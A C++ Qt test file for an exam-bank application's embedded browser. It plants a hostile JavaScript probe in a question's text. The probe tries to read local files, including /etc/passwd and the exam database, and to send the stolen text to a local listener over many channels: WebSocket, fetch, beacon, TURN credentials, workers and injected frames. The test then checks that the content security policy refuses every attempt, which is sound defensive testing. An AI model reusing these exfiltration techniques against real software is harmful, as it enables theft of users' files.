// A bank from someone else: a question text whose script tries to read the
// user's files and to reach a listener on this machine, shown in the main
// browser and in a side browser. A web page of the listener's own, in the same
// kind of browser, shows the listener is reachable and the probes work.
#include "MainWindowFixture.h"
#include "browser/WebBrowser.h"
#include "store/SqlText.h"

#include <QDir>
#include <QElapsedTimer>
#include <QFile>
#include <QJsonDocument>
#include <QNetworkDatagram>
#include <QTcpServer>
#include <QTcpSocket>
#include <QTemporaryDir>
#include <QUdpSocket>
#include <algorithm>
#include <cctype>

namespace {
// Answers every request with a small page and keeps the first line of what
// each connection sent; UDP (STUN, QUIC) is counted on the same port number.
// The control page is served at /C-page.
class Listener {
public:
    Listener() {
        tcp.listen(QHostAddress::LocalHost);
        udp.bind(QHostAddress::LocalHost, tcp.serverPort());
        QObject::connect(&tcp, &QTcpServer::newConnection, [this] {
            while (QTcpSocket* s = tcp.nextPendingConnection()) {
                ++connections;
                QObject::connect(s, &QTcpSocket::readyRead, s, [this, s] {
                    const QByteArray head = s->readAll();
                    if (!head.isEmpty() && !std::isupper(static_cast<unsigned char>(head[0]))) {
                        ++binary; // not HTTP: a TURN allocation
                        return;
                    }
                    const QByteArray line = head.left(head.indexOf("\r\n"));
                    requests << QString::fromUtf8(line);
                    const QByteArray body = line.contains("/C-page") ? controlPage() : QByteArray("ok");
                    s->write("HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nConnection: "
                             "close\r\nContent-Length: " +
                             QByteArray::number(body.size()) + "\r\n\r\n" + body);
                    s->disconnectFromHost();
                });
            }
        });
        QObject::connect(&udp, &QUdpSocket::readyRead, [this] {
            while (udp.hasPendingDatagrams()) {
                udp.receiveDatagram();
                ++datagrams;
            }
        });
    }
    QString Base() const { return QStringLiteral("127.0.0.1:%1").arg(tcp.serverPort()); }
    bool Arrived(const QString& marker) const {
        return std::any_of(requests.begin(), requests.end(),
                           [&](const QString& r) { return r.contains(marker); });
    }
    // What the exploit tries, from a web page, where nothing stops it.
    QByteArray controlPage() const {
        return QStringLiteral("<html><body><script>"
                              "new WebSocket('ws://%1/C-ws');"
                              "fetch('http://%1/C-fetch');"
                              "var pc = new RTCPeerConnection({iceServers:[{urls:'turn:%1?transport=tcp',"
                              "username:'u',credential:'c'}]});"
                              "pc.createDataChannel('x'); pc.createOffer().then(function(o){return "
                              "pc.setLocalDescription(o);});"
                              "new WebTransport('https://%1/C-wt').ready.catch(function(){});"
                              "</script></body></html>")
            .arg(Base())
            .toUtf8();
    }

    QTcpServer tcp;
    QUdpSocket udp;
    QStringList requests;
    int connections = 0;
    int binary = 0;
    int datagrams = 0;
};

// The exploit, with every way we know of to read a file outside css/ and
// images/ and to open a connection from a local page or anything it makes.
// Results go to __probe.
std::string probeScript(const Listener& l, const QString& secretFile, const QString& secretDir) {
    const QString js = QStringLiteral(R"JS(<iframe id="parsed"></iframe><iframe name="named"></iframe><script>
(function () {
  var P = window.__probe = {reads: {}, net: {}, refused: []};
  document.addEventListener("securitypolicyviolation", function (e) { P.refused.push(e.effectiveDirective); });
  var host = "@BASE@", base = host + "/L-", stolen = "";
  P.css = getComputedStyle(document.body).color;
  function rd(u) {
    try { var x = new XMLHttpRequest(); x.open("GET", u, false); x.send(); return "OK:" + x.responseText.slice(0, 300); }
    catch (e) { return "ERR:" + e.name; }
  }
  var targets = {css: "main.css", up: "../exam.db", enc: "%2e%2e/exam.db", upper: "../EXAM.DB", link: "link.txt",
                 abs: "file://@FILE@", host: "file://localhost@FILE@", dir: "file://@DIR@/", cssdir: "./",
                 passwd: "file:///etc/passwd", viaimages: "../images/../exam.db", dbl: "file:////@FILE@"};
  for (var k in targets) { P.reads[k] = rd(targets[k]); stolen += P.reads[k]; }
  ["../exam.db", "file://@FILE@"].forEach(function (u, i) {
    fetch(u).then(function (r) { return r.text(); }).then(function (t) { P.reads["fetch" + i] = "OK:" + t; stolen += t; },
                                                          function (e) { P.reads["fetch" + i] = "ERR:" + e.name; });
  });
  stolen += document.body.innerText.slice(0, 100);
  function net(name, f) { try { P.net[name] = String(f()); } catch (e) { P.net[name] = "ERR:" + e.name; } }
  function ws(w, tag) { if (!w || !w.WebSocket) return "none"; new w.WebSocket("ws://" + base + tag + "?v=" + encodeURIComponent(stolen)); return "made"; }
  function turn(w) {
    var R = w && (w.RTCPeerConnection || w.webkitRTCPeerConnection);
    if (!R) return "none";
    var pc = new R({iceServers: [{urls: "turn:" + host + "?transport=tcp", username: encodeURIComponent(stolen).slice(-200), credential: "c"},
                                 {urls: "stun:" + host}]});
    pc.createDataChannel("x"); pc.createOffer().then(function (o) { return pc.setLocalDescription(o); });
    return "made";
  }
  function both(name, w) { net(name + "Ws", function () { return ws(w, name); }); net(name + "Rtc", function () { return turn(w); }); }
  function frame() { var f = document.createElement("iframe"); return f; }
  // Frames the parser made, reached before anything touched their elements.
  both("top", window);
  both("parsed", frames[0]);
  both("named", window.named);
  var n = window.named;
  net("webTransport", function () { new n.WebTransport("https://" + base + "wt").ready.catch(function () {}); return "made"; });
  net("eventSource", function () { return new n.EventSource("http://" + base + "es") && "made"; });
  net("beacon", function () { return n.navigator.sendBeacon("http://" + base + "beacon", stolen); });
  net("worker", function () {
    return new n.Worker(n.URL.createObjectURL(new n.Blob(["new WebSocket('ws://" + base + "worker')"]))) && "made";
  });
  net("sharedWorker", function () {
    return new n.SharedWorker(n.URL.createObjectURL(new n.Blob(["new WebSocket('ws://" + base + "shared')"]))) && "made";
  });
  // Frames made by script, through every way of inserting we know.
  net("frameIndex", function () { document.body.appendChild(frame()); return ws(frames[frames.length - 1], "index"); });
  net("frameWindow", function () { var f = frame(); document.body.appendChild(f); return ws(f.contentWindow, "cw"); });
  net("frameHtml", function () {
    var d = document.createElement("div"); d.innerHTML = "<iframe></iframe>"; document.body.appendChild(d);
    return ws(frames[frames.length - 1], "html");
  });
  net("caption", function () {
    var t = document.createElement("table"), c = document.createElement("caption");
    c.appendChild(frame()); document.body.appendChild(t); t.caption = c; return turn(frames[frames.length - 1]);
  });
  net("tHead", function () {
    var t = document.createElement("table"), h = document.createElement("thead"), r = document.createElement("tr"),
        d = document.createElement("td");
    d.appendChild(frame()); r.appendChild(d); h.appendChild(r); document.body.appendChild(t); t.tHead = h;
    return turn(frames[frames.length - 1]);
  });
  net("borrowed", function () {
    var f = frame(); document.body.appendChild(f);
    var add = f.contentWindow.Node.prototype.appendChild;
    add.call(document.body, frame()); return turn(frames[frames.length - 1]);
  });
  net("srcdoc", function () {
    var f = frame();
    f.srcdoc = "<script>new WebSocket('ws://" + base + "srcdoc')<\/script>"; document.body.appendChild(f); return "made";
  });
  net("dataFrame", function () {
    var f = frame(); f.src = "data:text/html,<script>new WebSocket('ws://" + base + "data')<\/script>";
    document.body.appendChild(f); return "made";
  });
  net("open", function () { return String(window.open("http://" + base + "open")); });
  net("xhr", function () { var x = new XMLHttpRequest(); x.open("GET", "http://" + base + "xhr", false); x.send(); return x.status; });
  net("frameNav", function () { var f = frame(); f.src = "http://" + base + "nav"; document.body.appendChild(f); return "made"; });
  fetch("http://" + base + "fetch?v=" + encodeURIComponent(stolen)).catch(function () {});
  var img = new Image(); img.src = "http://" + base + "img?v=" + encodeURIComponent(stolen);
  // Last, once the frames above had time to connect: a new body drops them.
  setTimeout(function () {
    net("body", function () {
      var b = document.createElement("body"); b.appendChild(frame()); document.body = b;
      return turn(frames[frames.length - 1]);
    });
    P.done = true;
  }, 700);
})();
</script>)JS");
    return QString(js)
        .replace(QStringLiteral("@BASE@"), l.Base())
        .replace(QStringLiteral("@FILE@"), secretFile)
        .replace(QStringLiteral("@DIR@"), secretDir)
        .toStdString();
}

// Made before the installation, whose bank holds their addresses.
struct HostileWorld {
    QTemporaryDir secrets;
    Listener listener; // where the exploit sends
    Listener control;  // where a web page sends the same
};

class HostilePageTest : protected HostileWorld, public MainWindowFixture {
protected:
    HostilePageTest() : MainWindowFixture(bankSql()) {
        WriteFileBytes(secretFile().toStdString(), "TOPSECRET-0451");
        QFile::link(secretFile(), QString::fromStdString(inst.Path("css/link.txt")));
        WriteFileBytes(inst.Path("css/Main.css"), "body{color:rgb(1,2,3)}");
    }
    std::string bankSql() {
        return DefaultSettingsSql() + FixtureText("render/fixtures/page_bank.sql") +
               "INSERT INTO 题目类别 VALUES(1,'源',0,'0');INSERT INTO 题目类别 VALUES(11,'科目',1,NULL);"
               "INSERT INTO 题目类别 VALUES(101,'节',11,NULL);"
               "UPDATE 小题 SET 题目内容=" +
               QuotedStr(probeScript(listener, secretFile(), secrets.path())) + " WHERE 小题号=11;";
    }
    QString secretFile() const { return secrets.filePath(QStringLiteral("secret.txt")); }
    void pump(int ms) {
        QElapsedTimer t;
        t.start();
        while (t.elapsed() < ms)
            QApplication::processEvents(QEventLoop::AllEvents, 20);
    }
    bool pumpUntil(const std::function<bool()>& done, int ms = 10000) {
        QElapsedTimer t;
        t.start();
        while (!done() && t.elapsed() < ms)
            QApplication::processEvents(QEventLoop::AllEvents, 20);
        return done();
    }
    QVariantMap probeOf(WebBrowser* b) { return b->Evaluate(QStringLiteral("window.__probe")).toMap(); }
};
} // namespace

TEST_F(HostilePageTest, ABankScriptReadsNoFileOutsideItsFoldersAndReachesNoListener) {
    TFrmMain& f = Start(); // the first category page holds the exploit
    ASSERT_TRUE(f.WebBrowser1->WaitForLoad());
    f.WebBrowser2->Navigate(inst.Path("css/Question.html"));
    ASSERT_TRUE(f.WebBrowser2->WaitForLoad());

    // The control: a web page in a browser of ours reaches its listener by
    // every kind of connection the exploit tries.
    WebBrowser web;
    web.Navigate(QStringLiteral("http://%1/C-page").arg(control.Base()));
    ASSERT_TRUE(web.WaitForLoad(20000));
    ASSERT_TRUE(pumpUntil([&] {
        return control.Arrived("/C-ws") && control.Arrived("/C-fetch") && control.binary > 0 &&
               control.datagrams > 0;
    })) << control.requests.join(u'\n').toStdString()
        << " TURN " << control.binary << " UDP " << control.datagrams;
    for (WebBrowser* b : {f.WebBrowser1, f.WebBrowser2})
        ASSERT_TRUE(pumpUntil([&] { return probeOf(b).value("done").toBool(); }))
            << "the exploit did not run to its end";
    pump(1500); // the exploit's own asynchronous attempts

    for (WebBrowser* b : {f.WebBrowser1, f.WebBrowser2}) {
        const QVariantMap probe = probeOf(b);
        EXPECT_EQ(probe.value("css").toString(), "rgb(1, 2, 3)") << "the page's own style sheet";
        const QVariantMap reads = probe.value("reads").toMap();
        for (auto it = reads.begin(); it != reads.end(); ++it)
            EXPECT_FALSE(it.value().toString().startsWith("OK:") && it.value().toString().size() > 3)
                << it.key().toStdString() << " read " << it.value().toString().left(80).toStdString();
        // The browser itself refused them, whatever the script above missed.
        const QStringList refused = probe.value("refused").toStringList();
        for (const char* directive : {"connect-src", "frame-src", "img-src"})
            EXPECT_TRUE(refused.contains(QLatin1String(directive)))
                << directive << ": " << refused.join(u' ').toStdString();
        const QByteArray all = QJsonDocument::fromVariant(probe).toJson();
        EXPECT_FALSE(all.contains("TOPSECRET")) << all.toStdString();
    }
    EXPECT_EQ(listener.connections, 0)
        << listener.requests.join(u'\n').toStdString() << " TURN " << listener.binary;
    EXPECT_EQ(listener.datagrams, 0);
}
